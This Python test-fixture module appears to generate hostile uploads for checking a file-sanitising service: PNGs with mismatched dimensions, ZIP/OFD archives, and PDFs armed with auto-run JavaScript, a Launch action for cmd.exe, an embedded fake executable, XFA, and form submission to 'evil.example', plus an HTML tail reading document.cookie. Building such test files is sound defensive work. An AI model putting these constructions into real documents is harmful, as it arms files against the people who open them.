"""Files as strangers send them, made on the spot."""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name
from PIL import Image, ImageDraw

HTML_TAIL = b"<html><script>alert(document.cookie)</script></html>"


def picture(size=(400, 300), mode="RGB", colour="white") -> Image.Image:
    """A smooth picture with thousands of colours and a dark mark in the top left corner."""
    width, height = size
    red = Image.linear_gradient("L").resize(size)
    green = red.transpose(Image.Transpose.ROTATE_90).resize(size)
    image = Image.merge("RGB", (red, green, Image.new("L", size, 200)))
    ImageDraw.Draw(image).rectangle((0, 0, width // 4, height // 4), fill="black")
    return image.convert(mode)


def encode(image: Image.Image, fmt: str, **options) -> bytes:
    """The picture as bytes of a format that Pillow writes."""
    out = BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def jpeg(size=(400, 300), **options) -> bytes:
    return encode(picture(size), "JPEG", **options)


def uploaded(data: bytes, name="照片.jpg", content_type="image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type)


def archive(**entries: bytes) -> bytes:
    """A ZIP; an entry name's double underscore stands for a dot."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in entries.items():
            package.writestr(name.replace("__", "."), data)
    return out.getvalue()


def ofd(**more: bytes) -> bytes:
    root = b'<?xml version="1.0"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>'
    return archive(**{"OFD__xml": root, **more})


def png_header(width: int, height: int, pixels: bytes = b"") -> bytes:
    """A PNG that promises width × height pixels and holds `pixels` at most."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + body))
        return struct.pack(">I", len(body)) + kind + body + crc

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def pdf(pages=1, *, text="Residence permit 2026", change=None, **save) -> bytes:
    """A PDF with a line of text on each page; `change(pdf)` may spoil it first."""
    with pikepdf.new() as document:
        for number in range(pages):
            page = document.add_blank_page(page_size=(595, 842))
            font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            page.Resources = Dictionary(Font=Dictionary(F1=document.make_indirect(font)))
            line = f"BT /F1 24 Tf 72 700 Td ({text} {number + 1}) Tj ET"
            page.Contents = document.make_stream(line.encode())
        if change:
            change(document)
        out = BytesIO()
        document.save(out, **save)
    return out.getvalue()


def arm(document: pikepdf.Pdf) -> None:
    """Everything that acts: scripts, launch, submit, attached file, XFA, movie, links."""
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    root, page = document.Root, document.pages[0]
    document.attachments["evil.exe"] = b"MZ" + b"\0" * 64
    root.OpenAction = script
    root.AA = Dictionary(WC=script)
    root.Names.JavaScript = Dictionary(Names=Array(["run", script]))
    root.Outlines = Dictionary(Title="x", A=Dictionary(S=Name.Launch, F="cmd.exe"))
    page.AA = Dictionary(O=script)
    field = document.make_indirect(_field(document))
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 99, 99]),
        A=Dictionary(S=Name.URI, URI="http://evil.example/"),
    )
    page.Annots = Array([field, link])
    root.AcroForm = Dictionary(
        Fields=Array([field]),
        XFA=document.make_stream(b"<xdp:xdp>evil-xfa</xdp:xdp>"),
        DR=Dictionary(Font=page.Resources.Font),
        DA="/F1 12 Tf",
        NeedAppearances=True,
    )
    page.Resources.Properties = Dictionary(P1=Dictionary(Deep=Dictionary(Action=script)))
    document.docinfo["/Author"] = "Zhang San"
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = ["Zhang San"]


def _field(document: pikepdf.Pdf) -> Dictionary:
    return Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T="name",
        V="FIELDVALUE",
        DA="/F1 12 Tf",
        Rect=Array([72, 500, 300, 520]),
        AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS="key()")),
        A=Dictionary(S=Name.SubmitForm, F="http://evil.example/"),
    )
